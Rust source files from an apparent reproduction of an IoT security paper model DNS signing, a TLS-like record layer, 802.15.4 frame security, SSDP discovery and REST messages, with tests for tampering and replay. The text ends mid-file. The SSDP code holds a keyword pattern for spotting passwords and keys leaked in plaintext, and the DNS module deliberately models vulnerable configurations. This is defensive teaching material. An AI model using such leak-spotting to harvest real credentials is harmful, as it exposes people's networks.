#[derive(Debug, Clone, Default)]
pub struct Authoritative {
    records: BTreeMap<(String, RecordType), DnsRecord>,
    /// Per-zone signing secret; zones present here emit signed records.
    zone_secrets: BTreeMap<String, Vec<u8>>,
}

/// Extracts the zone (registered domain) from a name: the last two labels.
fn zone_of(name: &str) -> String {
    let labels: Vec<&str> = name.split('.').collect();
    if labels.len() <= 2 {
        name.to_string()
    } else {
        labels[labels.len() - 2..].join(".")
    }
}

impl Authoritative {
    /// Creates an empty server.
    pub fn new() -> Self {
        Authoritative::default()
    }

    /// Enables DNSSEC-style signing for a zone.
    pub fn enable_signing(&mut self, zone: &str, secret: &[u8]) {
        self.zone_secrets.insert(zone.to_string(), secret.to_vec());
    }

    /// Adds a record, signing it if its zone signs.
    pub fn add_record(&mut self, record: DnsRecord) {
        let zone = zone_of(&record.name);
        let record = match self.zone_secrets.get(&zone) {
            Some(secret) => record.sign(secret),
            None => record,
        };
        self.records
            .insert((record.name.clone(), record.rtype), record);
    }

    /// Answers a query.
    pub fn query(&self, name: &str, rtype: RecordType) -> Option<DnsRecord> {
        self.records.get(&(name.to_string(), rtype)).cloned()
    }

    /// Number of records served.
    pub fn len(&self) -> usize {
        self.records.len()
    }

    /// True if the server holds no records.
    pub fn is_empty(&self) -> bool {
        self.records.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn unsigned_zone_serves_unsigned_records() {
        let mut auth = Authoritative::new();
        auth.add_record(DnsRecord::new(
            "hub.vendor.example",
            RecordType::A,
            "n3",
            300,
        ));
        let rec = auth.query("hub.vendor.example", RecordType::A).unwrap();
        assert_eq!(rec.value, "n3");
        assert!(rec.rrsig.is_none());
    }

    #[test]
    fn signed_zone_serves_validating_records() {
        let mut auth = Authoritative::new();
        auth.enable_signing("vendor.example", b"zone secret");
        auth.add_record(DnsRecord::new(
            "hub.vendor.example",
            RecordType::A,
            "n3",
            300,
        ));
        let rec = auth.query("hub.vendor.example", RecordType::A).unwrap();
        assert!(rec.validate(b"zone secret"));
    }

    #[test]
    fn zone_extraction_takes_last_two_labels() {
        assert_eq!(zone_of("a.b.vendor.example"), "vendor.example");
        assert_eq!(zone_of("vendor.example"), "vendor.example");
        assert_eq!(zone_of("example"), "example");
    }

    #[test]
    fn missing_names_return_none() {
        let auth = Authoritative::new();
        assert!(auth.query("ghost.example", RecordType::A).is_none());
        assert!(auth.is_empty());
    }
}
