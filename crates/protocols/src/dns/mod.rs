//! DNS substrate: authoritative zones, a caching resolver, DNSSEC-style
//! signing, and the privacy transports (plain UDP, DoT, DoH) plus the
//! XLF-bridged lightweight transport the paper proposes in §IV-A3.
//!
//! The paper's threat analysis: devices are "hard-coded to connect to
//! certain corporate domains", making them "vulnerable to DNS cache
//! poisoning attacks", and plain DNS queries let passive observers infer
//! device types (Apthorpe et al.). This module reproduces both the
//! vulnerable and the hardened configurations.

mod authoritative;
mod records;
mod resolver;
mod transport;

pub use authoritative::Authoritative;
pub use records::{DnsRecord, RecordType};
pub use resolver::{ResolveOutcome, Resolver, ResolverConfig};
pub use transport::{encode_query, encode_response, DnsTransport, WireQuery};
