//! TLS-lite: a TLS-shaped session protocol over the crate's lightweight
//! ciphers — PSK handshake, per-direction key derivation, encrypt-then-MAC
//! records, and sequence-number replay protection.
//!
//! This models the properties the paper's network-layer analysis cares
//! about (end-to-end encryption, integrity, replay protection,
//! "misconfigurations or bad implementations of SSL/TLS could lead to such
//! vulnerability as well") without reproducing the full TLS state machine.

use std::fmt;
use xlf_lwcrypto::ciphers::Speck128;
use xlf_lwcrypto::kdf::derive_key;
use xlf_lwcrypto::mac::CbcMac;
use xlf_lwcrypto::modes::Ctr;
use xlf_lwcrypto::CryptoError;

/// Errors from the record layer.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TlsError {
    /// MAC verification failed (tampering or wrong keys).
    BadRecordMac,
    /// Sequence number replayed or out of window.
    Replay {
        /// Sequence number carried by the rejected record.
        seq: u64,
    },
    /// Record framing was malformed.
    Malformed,
    /// Underlying cryptographic failure.
    Crypto(CryptoError),
}

impl fmt::Display for TlsError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            TlsError::BadRecordMac => write!(f, "bad record MAC"),
            TlsError::Replay { seq } => write!(f, "replayed record (seq {seq})"),
            TlsError::Malformed => write!(f, "malformed record"),
            TlsError::Crypto(e) => write!(f, "crypto failure: {e}"),
        }
    }
}

impl std::error::Error for TlsError {}

impl From<CryptoError> for TlsError {
    fn from(e: CryptoError) -> Self {
        TlsError::Crypto(e)
    }
}

/// Role in the session (drives key directionality).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Role {
    /// Connection initiator.
    Client,
    /// Connection responder.
    Server,
}

/// Per-record byte overhead (header + MAC), mirroring a compact TLS 1.3
/// record.
pub const RECORD_OVERHEAD: usize = 8 + 16 + 5;

/// One endpoint of an established TLS-lite session.
///
/// Both endpoints must be constructed from the same PSK and session id
/// (the handshake transcript stand-in).
///
/// # Example
///
/// ```
/// use xlf_protocols::tls::{Session, Role};
///
/// # fn main() -> Result<(), xlf_protocols::tls::TlsError> {
/// let mut client = Session::establish(b"psk", "session-1", Role::Client);
/// let mut server = Session::establish(b"psk", "session-1", Role::Server);
/// let record = client.seal(b"GET /status")?;
/// assert_eq!(server.open(&record)?, b"GET /status");
/// # Ok(())
/// # }
/// ```
pub struct Session {
    send_cipher: Speck128,
    recv_cipher: Speck128,
    send_mac_cipher: Speck128,
    recv_mac_cipher: Speck128,
    send_seq: u64,
    /// Highest sequence number accepted so far (None before the first).
    recv_highest: Option<u64>,
}

impl fmt::Debug for Session {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Session")
            .field("send_seq", &self.send_seq)
            .field("recv_highest", &self.recv_highest)
            .finish_non_exhaustive()
    }
}

// Invariant, not input validation: `derive_key` fails only on a zero
// output length and `Speck128::new` only on a key that isn't 16 bytes —
// both fixed by the constants on this line, never by peer-supplied data.
// A panic here means the KDF contract itself changed.
fn key_for(psk: &[u8], session_id: &str, direction: &str) -> Speck128 {
    let key = derive_key(psk, &format!("tls-lite/{session_id}/{direction}"), 16)
        .unwrap_or_else(|_| unreachable!("non-empty label and length"));
    Speck128::new(&key).unwrap_or_else(|_| unreachable!("derive_key returned 16 bytes"))
}

impl Session {
    /// Performs the PSK handshake (deterministic key schedule from psk and
    /// session id) and returns the endpoint for `role`.
    pub fn establish(psk: &[u8], session_id: &str, role: Role) -> Session {
        let c2s = key_for(psk, session_id, "c2s");
        let s2c = key_for(psk, session_id, "s2c");
        let c2s_mac = key_for(psk, session_id, "c2s-mac");
        let s2c_mac = key_for(psk, session_id, "s2c-mac");
        match role {
            Role::Client => Session {
                send_cipher: c2s,
                recv_cipher: s2c,
                send_mac_cipher: c2s_mac,
                recv_mac_cipher: s2c_mac,
                send_seq: 0,
                recv_highest: None,
            },
            Role::Server => Session {
                send_cipher: s2c,
                recv_cipher: c2s,
                send_mac_cipher: s2c_mac,
                recv_mac_cipher: c2s_mac,
                send_seq: 0,
                recv_highest: None,
            },
        }
    }

    /// Encrypts and authenticates `plaintext` into a record.
    ///
    /// # Errors
    ///
    /// Propagates [`TlsError::Crypto`] (does not occur for well-formed
    /// internal state).
    pub fn seal(&mut self, plaintext: &[u8]) -> Result<Vec<u8>, TlsError> {
        let seq = self.send_seq;
        self.send_seq += 1;
        let mut nonce = [0u8; 16];
        nonce[8..].copy_from_slice(&seq.to_be_bytes());
        let mut body = plaintext.to_vec();
        Ctr::new(&self.send_cipher, &nonce).apply(&mut body);

        let mut record = seq.to_be_bytes().to_vec();
        record.extend_from_slice(&body);
        let mac = CbcMac::new(&self.send_mac_cipher);
        let tag = mac.tag(&record)?;
        record.extend_from_slice(&tag);
        Ok(record)
    }

    /// Verifies and decrypts a record.
    ///
    /// # Errors
    ///
    /// [`TlsError::Malformed`] for short records, [`TlsError::BadRecordMac`]
    /// on tampering, [`TlsError::Replay`] for non-monotonic sequence
    /// numbers.
    pub fn open(&mut self, record: &[u8]) -> Result<Vec<u8>, TlsError> {
        if record.len() < 8 + 16 {
            return Err(TlsError::Malformed);
        }
        let (signed, tag) = record.split_at(record.len() - 16);
        let mac = CbcMac::new(&self.recv_mac_cipher);
        if !mac.verify(signed, tag)? {
            return Err(TlsError::BadRecordMac);
        }
        let seq_bytes: [u8; 8] = signed[..8].try_into().map_err(|_| TlsError::Malformed)?;
        let seq = u64::from_be_bytes(seq_bytes);
        if let Some(highest) = self.recv_highest {
            if seq <= highest {
                return Err(TlsError::Replay { seq });
            }
        }
        self.recv_highest = Some(seq);
        let mut body = signed[8..].to_vec();
        let mut nonce = [0u8; 16];
        nonce[8..].copy_from_slice(&seq.to_be_bytes());
        Ctr::new(&self.recv_cipher, &nonce).apply(&mut body);
        Ok(body)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn pair() -> (Session, Session) {
        (
            Session::establish(b"psk", "s1", Role::Client),
            Session::establish(b"psk", "s1", Role::Server),
        )
    }

    #[test]
    fn bidirectional_traffic_roundtrips() {
        let (mut client, mut server) = pair();
        let r1 = client.seal(b"hello from device").unwrap();
        assert_eq!(server.open(&r1).unwrap(), b"hello from device");
        let r2 = server.seal(b"ack").unwrap();
        assert_eq!(client.open(&r2).unwrap(), b"ack");
    }

    #[test]
    fn ciphertext_hides_plaintext() {
        let (mut client, _server) = pair();
        let record = client.seal(b"secret-password").unwrap();
        assert!(!record
            .windows(b"secret-password".len())
            .any(|w| w == b"secret-password"));
    }

    #[test]
    fn tampering_is_detected() {
        let (mut client, mut server) = pair();
        let mut record = client.seal(b"turn off alarm").unwrap();
        record[10] ^= 1;
        assert_eq!(server.open(&record), Err(TlsError::BadRecordMac));
    }

    #[test]
    fn replay_is_rejected() {
        let (mut client, mut server) = pair();
        let record = client.seal(b"unlock").unwrap();
        assert!(server.open(&record).is_ok());
        assert_eq!(server.open(&record), Err(TlsError::Replay { seq: 0 }));
    }

    #[test]
    fn wrong_psk_cannot_read() {
        let mut client = Session::establish(b"psk", "s1", Role::Client);
        let mut wrong_server = Session::establish(b"other", "s1", Role::Server);
        let record = client.seal(b"data").unwrap();
        assert_eq!(wrong_server.open(&record), Err(TlsError::BadRecordMac));
    }

    #[test]
    fn directions_are_keyed_separately() {
        let (mut client, mut server) = pair();
        let from_client = client.seal(b"same bytes").unwrap();
        let from_server = server.seal(b"same bytes").unwrap();
        assert_ne!(from_client, from_server);
        // A client cannot be tricked into accepting its own record back
        // (reflection attack).
        let mut client2 = Session::establish(b"psk", "s1", Role::Client);
        let reflected = client2.seal(b"reflect me").unwrap();
        assert_eq!(client.open(&reflected), Err(TlsError::BadRecordMac));
    }

    #[test]
    fn sequence_numbers_increase_per_record() {
        let (mut client, mut server) = pair();
        for i in 0..5u8 {
            let record = client.seal(&[i]).unwrap();
            assert_eq!(server.open(&record).unwrap(), vec![i]);
        }
        // Out-of-order old record now rejected.
        let (mut c2, _) = pair();
        let old = c2.seal(b"old seq 0").unwrap();
        assert!(matches!(
            server.open(&old),
            Err(TlsError::Replay { .. }) | Err(TlsError::BadRecordMac)
        ));
    }

    #[test]
    fn short_records_are_malformed() {
        let (_, mut server) = pair();
        assert_eq!(server.open(&[0u8; 10]), Err(TlsError::Malformed));
    }
}
