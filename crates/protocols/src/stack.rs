//! The Figure 2 mapping: "some IoT network protocols mapped to the TCP/IP
//! stack". The figure2 harness walks this table and exercises one
//! implemented code path per protocol to prove the mapping is live.

/// A TCP/IP stack layer as drawn in Figure 2.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum StackLayer {
    /// Link/physical technologies.
    LinkPhysical,
    /// Network/adaptation (IP, 6LoWPAN).
    Network,
    /// Transport (TCP/UDP + security layered on them).
    Transport,
    /// Application protocols.
    Application,
}

impl StackLayer {
    /// Display name.
    pub fn name(self) -> &'static str {
        match self {
            StackLayer::LinkPhysical => "Link/Physical",
            StackLayer::Network => "Network",
            StackLayer::Transport => "Transport",
            StackLayer::Application => "Application",
        }
    }
}

/// One protocol entry of Figure 2.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StackEntry {
    /// Protocol name as printed in the figure.
    pub protocol: &'static str,
    /// Stack layer the figure places it on.
    pub layer: StackLayer,
    /// Which module of this crate (or the simulator) implements the
    /// behaviour the XLF experiments exercise.
    pub implemented_by: &'static str,
}

/// The full Figure 2 table.
pub fn stack_map() -> Vec<StackEntry> {
    use StackLayer::*;
    vec![
        StackEntry {
            protocol: "IEEE 802.15.4 (ZigBee)",
            layer: LinkPhysical,
            implemented_by: "xlf_protocols::ieee802154 + xlf_simnet::Medium::Zigbee",
        },
        StackEntry {
            protocol: "Z-Wave",
            layer: LinkPhysical,
            implemented_by: "xlf_simnet::Medium::Zwave",
        },
        StackEntry {
            protocol: "WiFi (802.11)",
            layer: LinkPhysical,
            implemented_by: "xlf_simnet::Medium::Wifi",
        },
        StackEntry {
            protocol: "Bluetooth LE",
            layer: LinkPhysical,
            implemented_by: "xlf_simnet::Medium::Ble",
        },
        StackEntry {
            protocol: "Ethernet",
            layer: LinkPhysical,
            implemented_by: "xlf_simnet::Medium::Ethernet",
        },
        StackEntry {
            protocol: "6LoWPAN",
            layer: Network,
            implemented_by: "xlf_simnet::Medium::SixLowpan (adaptation over 802.15.4)",
        },
        StackEntry {
            protocol: "IPv4/IPv6",
            layer: Network,
            implemented_by: "xlf_simnet routing (NodeId addressing)",
        },
        StackEntry {
            protocol: "UDP",
            layer: Transport,
            implemented_by: "xlf_simnet::Protocol::Udp",
        },
        StackEntry {
            protocol: "TCP",
            layer: Transport,
            implemented_by: "xlf_simnet::Protocol::Tcp",
        },
        StackEntry {
            protocol: "TLS / DTLS",
            layer: Transport,
            implemented_by: "xlf_protocols::tls",
        },
        StackEntry {
            protocol: "DNS (+DoT/DoH)",
            layer: Application,
            implemented_by: "xlf_protocols::dns",
        },
        StackEntry {
            protocol: "HTTP/REST",
            layer: Application,
            implemented_by: "xlf_protocols::rest",
        },
        StackEntry {
            protocol: "SSDP/UPnP",
            layer: Application,
            implemented_by: "xlf_protocols::ssdp",
        },
        StackEntry {
            protocol: "MQTT-style telemetry",
            layer: Application,
            implemented_by: "xlf_device::runtime telemetry packets",
        },
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_layer_is_populated() {
        let map = stack_map();
        for layer in [
            StackLayer::LinkPhysical,
            StackLayer::Network,
            StackLayer::Transport,
            StackLayer::Application,
        ] {
            assert!(
                map.iter().any(|e| e.layer == layer),
                "no protocol on {}",
                layer.name()
            );
        }
    }

    #[test]
    fn figure2_core_protocols_present() {
        let map = stack_map();
        for name in ["6LoWPAN", "UDP", "TCP", "TLS / DTLS", "DNS (+DoT/DoH)"] {
            assert!(map.iter().any(|e| e.protocol == name), "missing {name}");
        }
    }

    #[test]
    fn entries_name_their_implementation() {
        for entry in stack_map() {
            assert!(
                entry.implemented_by.contains("xlf_"),
                "{} lacks an implementation pointer",
                entry.protocol
            );
        }
    }
}
