//! SSDP/UPnP discovery: the unprotected LAN channel of Table II's
//! coffee-machine row ("listens to UPNP … hijack password of Wi-Fi") and
//! the §III-B "open ports via Universal Plug and Play" exposure.
//!
//! SSDP messages are plaintext multicast; anything on the LAN hears them.

use std::collections::BTreeMap;

/// An SSDP message (NOTIFY announcement or M-SEARCH probe).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SsdpMessage {
    /// Periodic presence announcement from a device.
    Notify {
        /// Device type URN, e.g. `"urn:acme:device:coffeemaker:1"`.
        device_type: String,
        /// Unique service name.
        usn: String,
        /// Plaintext key/value fields the device discloses. Vulnerable
        /// devices include setup secrets here.
        fields: BTreeMap<String, String>,
    },
    /// Active discovery probe.
    MSearch {
        /// Search target (`"ssdp:all"` or a device type URN).
        target: String,
    },
}

impl SsdpMessage {
    /// Builds a NOTIFY with no extra fields.
    pub fn notify(device_type: &str, usn: &str) -> Self {
        SsdpMessage::Notify {
            device_type: device_type.to_string(),
            usn: usn.to_string(),
            fields: BTreeMap::new(),
        }
    }

    /// Adds a disclosed field (builder-style).
    pub fn with_field(self, key: &str, value: &str) -> Self {
        match self {
            SsdpMessage::Notify {
                device_type,
                usn,
                mut fields,
            } => {
                fields.insert(key.to_string(), value.to_string());
                SsdpMessage::Notify {
                    device_type,
                    usn,
                    fields,
                }
            }
            other => other,
        }
    }

    /// Serializes to the plaintext wire format.
    pub fn to_bytes(&self) -> Vec<u8> {
        match self {
            SsdpMessage::Notify {
                device_type,
                usn,
                fields,
            } => {
                let mut text = format!("NOTIFY * HTTP/1.1\nNT: {device_type}\nUSN: {usn}\n");
                for (k, v) in fields {
                    text.push_str(&format!("{k}: {v}\n"));
                }
                text.into_bytes()
            }
            SsdpMessage::MSearch { target } => {
                format!("M-SEARCH * HTTP/1.1\nST: {target}\n").into_bytes()
            }
        }
    }

    /// Parses the plaintext wire format.
    pub fn from_bytes(data: &[u8]) -> Option<SsdpMessage> {
        let text = std::str::from_utf8(data).ok()?;
        let mut lines = text.lines();
        let first = lines.next()?;
        if first.starts_with("NOTIFY") {
            let mut device_type = None;
            let mut usn = None;
            let mut fields = BTreeMap::new();
            for line in lines {
                let (k, v) = line.split_once(": ")?;
                match k {
                    "NT" => device_type = Some(v.to_string()),
                    "USN" => usn = Some(v.to_string()),
                    _ => {
                        fields.insert(k.to_string(), v.to_string());
                    }
                }
            }
            Some(SsdpMessage::Notify {
                device_type: device_type?,
                usn: usn?,
                fields,
            })
        } else if first.starts_with("M-SEARCH") {
            let st = lines.next()?.strip_prefix("ST: ")?;
            Some(SsdpMessage::MSearch {
                target: st.to_string(),
            })
        } else {
            None
        }
    }

    /// What a passive LAN listener learns from this message: every field
    /// is plaintext, including any secrets a careless device discloses.
    pub fn disclosed_secrets(&self) -> Vec<(&str, &str)> {
        match self {
            SsdpMessage::Notify { fields, .. } => fields
                .iter()
                .filter(|(k, _)| {
                    let k = k.to_ascii_lowercase();
                    k.contains("key")
                        || k.contains("pass")
                        || k.contains("secret")
                        || k.contains("psk")
                })
                .map(|(k, v)| (k.as_str(), v.as_str()))
                .collect(),
            SsdpMessage::MSearch { .. } => Vec::new(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn notify_roundtrip() {
        let msg = SsdpMessage::notify("urn:acme:device:coffeemaker:1", "uuid:cafe-1")
            .with_field("LOCATION", "http://10.0.0.9/desc.xml");
        let parsed = SsdpMessage::from_bytes(&msg.to_bytes()).unwrap();
        assert_eq!(parsed, msg);
    }

    #[test]
    fn msearch_roundtrip() {
        let msg = SsdpMessage::MSearch {
            target: "ssdp:all".to_string(),
        };
        assert_eq!(SsdpMessage::from_bytes(&msg.to_bytes()).unwrap(), msg);
    }

    #[test]
    fn careless_setup_leaks_wifi_psk() {
        // The Table II coffee-machine row: the setup channel carries the
        // WiFi password in plaintext where any LAN listener hears it.
        let msg = SsdpMessage::notify("urn:acme:device:coffeemaker:1", "uuid:cafe-1")
            .with_field("X-Setup-Wifi-Pass", "home-network-password-123");
        let leaks = msg.disclosed_secrets();
        assert_eq!(
            leaks,
            vec![("X-Setup-Wifi-Pass", "home-network-password-123")]
        );
    }

    #[test]
    fn benign_fields_are_not_flagged() {
        let msg =
            SsdpMessage::notify("urn:x:tv:1", "uuid:tv").with_field("LOCATION", "http://10.0.0.5/");
        assert!(msg.disclosed_secrets().is_empty());
    }

    #[test]
    fn malformed_input_is_rejected() {
        assert!(SsdpMessage::from_bytes(b"HELLO").is_none());
        assert!(SsdpMessage::from_bytes(&[0xFF, 0xFE]).is_none());
    }
}
