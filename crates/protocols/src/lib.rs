//! Network protocol substrates for the XLF reproduction: the technologies
//! the paper's Figure 2 maps onto the TCP/IP stack, implemented to the
//! depth the framework's mechanisms exercise them.
//!
//! * [`dns`] — resolver/authoritative model with DNSSEC signing and
//!   plain/DoT/DoH transports (the §IV-A3 constrained-access and DNS-privacy
//!   mechanisms operate here).
//! * [`tls`] — a TLS-shaped record protocol over the crate's lightweight
//!   ciphers: handshake, key derivation, encrypt-then-MAC records, replay
//!   protection.
//! * [`ieee802154`] — 802.15.4 frame security: the access control, message
//!   integrity, and replay protection the paper credits the standard with
//!   (§II-B).
//! * [`rest`] — the REST-shaped request/response encoding the service layer
//!   speaks (§IV-C1).
//! * [`ssdp`] — UPnP/SSDP discovery, the unprotected channel of Table II's
//!   coffee-machine row.
//! * [`stack`] — the Figure 2 protocol→stack-layer mapping, exercised by
//!   the figure2 harness.

#![forbid(unsafe_code)]
#![warn(missing_docs)]
#![cfg_attr(not(test), deny(clippy::unwrap_used, clippy::expect_used))]

pub mod dns;
pub mod ieee802154;
pub mod rest;
pub mod ssdp;
pub mod stack;
pub mod tls;
