//! REST-lite: the request/response shape the service layer speaks.
//!
//! §IV-C1: "Samsung SmartThings Cloud utilize REST APIs to control and get
//! status notifications from IoT devices" and "each API call should be
//! assigned an API token to validate incoming queries". Requests carry an
//! optional bearer token the API gateway validates.

use std::collections::BTreeMap;
use std::fmt;

/// HTTP-style method.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Method {
    /// Read.
    Get,
    /// Create/invoke.
    Post,
    /// Update.
    Put,
    /// Remove.
    Delete,
}

impl fmt::Display for Method {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            Method::Get => "GET",
            Method::Post => "POST",
            Method::Put => "PUT",
            Method::Delete => "DELETE",
        };
        f.write_str(s)
    }
}

/// A REST request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Request {
    /// Method.
    pub method: Method,
    /// Path, e.g. `/devices/lamp/commands`.
    pub path: String,
    /// Bearer token, if the caller is authenticated.
    pub token: Option<String>,
    /// Header map.
    pub headers: BTreeMap<String, String>,
    /// Body bytes.
    pub body: Vec<u8>,
}

impl Request {
    /// Creates a request with no token or headers.
    pub fn new(method: Method, path: &str) -> Self {
        Request {
            method,
            path: path.to_string(),
            token: None,
            headers: BTreeMap::new(),
            body: Vec::new(),
        }
    }

    /// Attaches a bearer token (builder-style).
    pub fn with_token(mut self, token: &str) -> Self {
        self.token = Some(token.to_string());
        self
    }

    /// Attaches a body (builder-style).
    pub fn with_body(mut self, body: impl Into<Vec<u8>>) -> Self {
        self.body = body.into();
        self
    }

    /// Attaches a header (builder-style).
    pub fn with_header(mut self, key: &str, value: &str) -> Self {
        self.headers.insert(key.to_string(), value.to_string());
        self
    }

    /// Serializes to a wire payload.
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut text = format!("{} {}\n", self.method, self.path);
        if let Some(token) = &self.token {
            text.push_str(&format!("authorization: Bearer {token}\n"));
        }
        for (k, v) in &self.headers {
            text.push_str(&format!("{k}: {v}\n"));
        }
        text.push('\n');
        let mut out = text.into_bytes();
        out.extend_from_slice(&self.body);
        out
    }

    /// Parses a wire payload.
    pub fn from_bytes(data: &[u8]) -> Option<Request> {
        let sep = data.windows(2).position(|w| w == b"\n\n")?;
        let head = std::str::from_utf8(&data[..sep]).ok()?;
        let body = data[sep + 2..].to_vec();
        let mut lines = head.lines();
        let request_line = lines.next()?;
        let (method_str, path) = request_line.split_once(' ')?;
        let method = match method_str {
            "GET" => Method::Get,
            "POST" => Method::Post,
            "PUT" => Method::Put,
            "DELETE" => Method::Delete,
            _ => return None,
        };
        let mut token = None;
        let mut headers = BTreeMap::new();
        for line in lines {
            let (k, v) = line.split_once(": ")?;
            if k == "authorization" {
                token = v.strip_prefix("Bearer ").map(str::to_string);
            } else {
                headers.insert(k.to_string(), v.to_string());
            }
        }
        Some(Request {
            method,
            path: path.to_string(),
            token,
            headers,
            body,
        })
    }
}

/// A REST response.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Response {
    /// HTTP-style status code.
    pub status: u16,
    /// Body bytes.
    pub body: Vec<u8>,
}

impl Response {
    /// 200 with body.
    pub fn ok(body: impl Into<Vec<u8>>) -> Self {
        Response {
            status: 200,
            body: body.into(),
        }
    }

    /// 401 unauthorized.
    pub fn unauthorized() -> Self {
        Response {
            status: 401,
            body: b"unauthorized".to_vec(),
        }
    }

    /// 403 forbidden (authenticated but lacking scope).
    pub fn forbidden() -> Self {
        Response {
            status: 403,
            body: b"forbidden".to_vec(),
        }
    }

    /// 404 not found.
    pub fn not_found() -> Self {
        Response {
            status: 404,
            body: b"not found".to_vec(),
        }
    }

    /// 429 rate limited.
    pub fn rate_limited() -> Self {
        Response {
            status: 429,
            body: b"too many requests".to_vec(),
        }
    }

    /// Serializes to a wire payload.
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut out = format!("{}\n\n", self.status).into_bytes();
        out.extend_from_slice(&self.body);
        out
    }

    /// Parses a wire payload.
    pub fn from_bytes(data: &[u8]) -> Option<Response> {
        let sep = data.windows(2).position(|w| w == b"\n\n")?;
        let status = std::str::from_utf8(&data[..sep]).ok()?.parse().ok()?;
        Some(Response {
            status,
            body: data[sep + 2..].to_vec(),
        })
    }

    /// Whether the status indicates success.
    pub fn is_success(&self) -> bool {
        (200..300).contains(&self.status)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn request_roundtrip() {
        let req = Request::new(Method::Post, "/devices/lamp/commands")
            .with_token("tok-123")
            .with_header("x-app", "thermo-helper")
            .with_body(b"action=on".to_vec());
        let parsed = Request::from_bytes(&req.to_bytes()).unwrap();
        assert_eq!(parsed, req);
    }

    #[test]
    fn request_without_token_roundtrips() {
        let req = Request::new(Method::Get, "/devices");
        let parsed = Request::from_bytes(&req.to_bytes()).unwrap();
        assert_eq!(parsed.token, None);
        assert_eq!(parsed.path, "/devices");
    }

    #[test]
    fn response_roundtrip_and_helpers() {
        for resp in [
            Response::ok(b"[]".to_vec()),
            Response::unauthorized(),
            Response::forbidden(),
            Response::not_found(),
            Response::rate_limited(),
        ] {
            let parsed = Response::from_bytes(&resp.to_bytes()).unwrap();
            assert_eq!(parsed, resp);
        }
        assert!(Response::ok(vec![]).is_success());
        assert!(!Response::forbidden().is_success());
    }

    #[test]
    fn malformed_input_returns_none() {
        assert!(Request::from_bytes(b"garbage").is_none());
        assert!(Request::from_bytes(b"TRACE /x\n\n").is_none());
        assert!(Response::from_bytes(b"not-a-status\n\nbody").is_none());
    }

    #[test]
    fn binary_bodies_survive() {
        let req = Request::new(Method::Put, "/fw").with_body(vec![0u8, 255, 10, 10, 0]);
        let parsed = Request::from_bytes(&req.to_bytes()).unwrap();
        assert_eq!(parsed.body, vec![0u8, 255, 10, 10, 0]);
    }
}
