//! IEEE 802.15.4-style frame security: "a security model that provides
//! security features including access control, message integrity, and
//! replay protection … implemented by technologies based on this standard
//! such as ZigBee" (§II-B).
//!
//! Frames carry a 4-byte frame counter; the receiver keeps per-sender
//! replay state and an access-control list of authorized short addresses.

use std::collections::BTreeMap;
use std::fmt;
use xlf_lwcrypto::ciphers::Present80;
use xlf_lwcrypto::kdf::derive_key;
use xlf_lwcrypto::mac::CbcMac;
use xlf_lwcrypto::modes::Ctr;

/// Security level of a frame (subset of the 802.15.4 levels).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum SecurityLevel {
    /// No protection.
    None,
    /// Integrity only (MIC-32-like, here an 8-byte MIC).
    Mic,
    /// Encryption + integrity (ENC-MIC).
    EncMic,
}

/// Errors raised by the receiving frame processor.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum FrameError {
    /// Sender not in the access-control list.
    AccessDenied {
        /// Offending short address.
        sender: u16,
    },
    /// Message integrity check failed.
    BadMic,
    /// Frame counter not strictly increasing (replay).
    Replay {
        /// Counter carried by the rejected frame.
        counter: u32,
    },
    /// Frame bytes could not be parsed.
    Malformed,
    /// Security level below the receiver's minimum.
    InsufficientSecurity,
}

impl fmt::Display for FrameError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            FrameError::AccessDenied { sender } => write!(f, "sender {sender:#06x} not authorized"),
            FrameError::BadMic => write!(f, "message integrity check failed"),
            FrameError::Replay { counter } => write!(f, "replayed frame counter {counter}"),
            FrameError::Malformed => write!(f, "malformed frame"),
            FrameError::InsufficientSecurity => write!(f, "security level below receiver minimum"),
        }
    }
}

impl std::error::Error for FrameError {}

/// A parsed/constructed secured frame.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SecuredFrame {
    /// Sender short address.
    pub sender: u16,
    /// Strictly increasing frame counter.
    pub counter: u32,
    /// Security level applied.
    pub level: SecurityLevel,
    /// Payload (encrypted iff level is `EncMic`).
    pub body: Vec<u8>,
    /// MIC over header+body, when the level includes integrity.
    pub mic: Option<Vec<u8>>,
}

// Invariant, not input validation: the requested 10-byte derived key is
// exactly Present80's fixed key size, so these branches can only fire if
// that pairing is edited — never from frame contents.
fn network_cipher(network_key: &[u8]) -> Present80 {
    let key = derive_key(network_key, "802154-network", 10)
        .unwrap_or_else(|_| unreachable!("non-empty label and length"));
    Present80::new(&key).unwrap_or_else(|_| unreachable!("derive_key returned 10 bytes"))
}

fn mic_input(sender: u16, counter: u32, level: SecurityLevel, body: &[u8]) -> Vec<u8> {
    let mut input = sender.to_be_bytes().to_vec();
    input.extend_from_slice(&counter.to_be_bytes());
    input.push(match level {
        SecurityLevel::None => 0,
        SecurityLevel::Mic => 1,
        SecurityLevel::EncMic => 2,
    });
    input.extend_from_slice(body);
    input
}

/// Sender-side security processor.
#[derive(Debug)]
pub struct FrameSender {
    address: u16,
    counter: u32,
    network_key: Vec<u8>,
}

impl FrameSender {
    /// Creates a sender with short address `address` on the network keyed
    /// by `network_key`.
    pub fn new(address: u16, network_key: &[u8]) -> Self {
        FrameSender {
            address,
            counter: 0,
